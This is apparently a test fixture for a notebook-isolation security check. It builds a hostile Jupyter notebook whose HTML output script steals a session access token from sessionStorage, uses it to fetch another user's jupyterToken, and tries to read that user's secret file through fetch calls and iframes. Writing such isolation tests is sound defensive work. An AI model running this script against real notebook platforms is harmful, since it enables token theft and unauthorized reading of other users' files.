// The hostile page of the notebook-isolation test: what user A puts in a page served by A's own notebook (here the
// output of a trusted notebook, which Jupyter runs as the notebook page's script). It tries, with whatever rights the
// origin it runs on has, to read the WebUI's stored session, call the API with it, read user B's files and frame
// B's notebook, and writes what each attempt got into #attack-report (data-done when finished). The targets come in
// the page's fragment: aapf (AAPF's origin), victim (B's cluster), nb (B's notebook on its own origin), path (its
// urlPath on AAPF's origin).

/* global document, location, sessionStorage, fetch */
async function attack() {
  const target = Object.fromEntries(new URLSearchParams(location.hash.slice(1)));
  const report = {};
  let accessToken = null;
  let jupyterToken = null;

  const frame = (src) => new Promise((resolve) => {
    const element = document.createElement('iframe');
    element.style.width = '400px';
    element.onload = () => resolve(element);
    setTimeout(() => resolve(element), 8000);
    element.src = src;
    document.body.append(element);
  });
  const attempt = async (name, ways) => {
    report[name] = [];
    for (const [how, run] of ways) {
      try {
        const got = await run();
        report[name].push({ how, ok: Boolean(got), detail: got ? String(got) : 'got nothing' });
      } catch (e) {
        report[name].push({ how, ok: false, detail: `${e.name}: ${e.message}`.slice(0, 120) });
      }
    }
  };

  await attempt('read the WebUI session', [
    ["this tab's sessionStorage", async () => {
      accessToken = JSON.parse(sessionStorage.getItem('aapf.session'))?.accessToken ?? null;
      return accessToken && `access token ${accessToken.slice(0, 12)}...`;
    }],
  ]);
  await attempt("call the API with B's credentials", [
    ['GET /aaclusters/{victim} with the stolen token', async () => {
      if (!accessToken) throw new Error('no token to send');
      const response = await fetch(`${target.aapf}/api/v1/aaclusters/${target.victim}`,
        { headers: { Authorization: `Bearer ${accessToken}` } });
      const notebook = (await response.json()).aacluster.services.find((s) => s.name === 'jupyter-notebook');
      jupyterToken = notebook.instances[0].jupyterToken;
      return response.ok && `${response.status}, B's jupyterToken ${jupyterToken.slice(0, 6)}...`;
    }],
    ["GET /aaclusters with the browser's cookies", async () => {
      const response = await fetch(`${target.aapf}/api/v1/aaclusters`, { credentials: 'include' });
      return response.ok && (await response.text()).includes(target.victim) && `${response.status}, lists B's cluster`;
    }],
  ]);
  const secret = async (response) => {
    const text = await response.text();
    return response.ok && text.includes('B-SECRET') && `${response.status}, read secret.txt`;
  };
  await attempt("read B's files", [
    ["B's notebook origin with B's Jupyter cookie", async () =>
      secret(await fetch(`${target.nb}/api/contents/secret.txt?content=1`, { credentials: 'include' }))],
    ["AAPF's notebook path with B's cookie", async () =>
      secret(await fetch(`${target.aapf}${target.path}/api/contents/secret.txt?content=1`, { credentials: 'include' }))],
    ["AAPF's notebook path with the jupyterToken from the API", async () => {
      if (!jupyterToken) throw new Error('no jupyterToken to send');
      return secret(await fetch(`${target.aapf}${target.path}/api/contents/secret.txt?content=1`,
        { headers: { Authorization: `token ${jupyterToken}` } }));
    }],
  ]);
  const framedSecret = async (src) => {
    const element = await frame(src);
    const text = element.contentDocument.body.innerText;
    return text.includes('B-SECRET') && 'read secret.txt in the frame';
  };
  await attempt("frame B's notebook and read it", [
    ["B's notebook origin", () => framedSecret(`${target.nb}/api/contents/secret.txt?content=1`)],
    ["AAPF's notebook path", () => framedSecret(`${target.aapf}${target.path}/api/contents/secret.txt?content=1`)],
  ]);

  const out = document.getElementById('attack-report');
  out.textContent = JSON.stringify({ origin: location.origin, report });
  out.dataset.done = 'true';
}

/** The page: a report element and the attack, inline (as a notebook's HTML output can hold it). */
export const HOSTILE_HTML = `<div id="attack-report"></div><script>(${attack.toString()})();</script>`;

/** A notebook whose one output is the page: once trusted, Jupyter's notebook page runs its script. */
export function hostileNotebook() {
  return {
    type: 'notebook',
    content: {
      nbformat: 4, nbformat_minor: 5, metadata: {},
      cells: [{ cell_type: 'code', id: 'hostile', metadata: {}, execution_count: 1, source: '# nothing to see',
        outputs: [{ output_type: 'display_data', metadata: {}, data: { 'text/html': HOSTILE_HTML } }] }],
    },
  };
}
